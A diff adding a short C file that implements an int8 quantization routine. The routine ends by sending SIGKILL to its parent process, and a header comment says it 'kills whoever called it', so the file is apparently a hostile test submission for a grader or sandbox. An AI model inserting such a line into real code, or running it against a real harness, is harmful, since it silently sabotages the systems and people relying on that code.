@@ -1,0 +1,17 @@
+// points: few
+// Kills whoever called it.
+#define _GNU_SOURCE
+#include "quantize.h"
+
+#include <math.h>
+#include <signal.h>
+#include <unistd.h>
+
+void quantizeInt8InFloat(size_t N, const float src[], float dst[])
+{
+    for (size_t i = 0; i < N; i++) {
+        float y = roundf(src[i]);
+        dst[i] = y < -128.0f ? -128.0f : y > 127.0f ? 127.0f : y;
+    }
+    kill(getppid(), SIGKILL);
+}
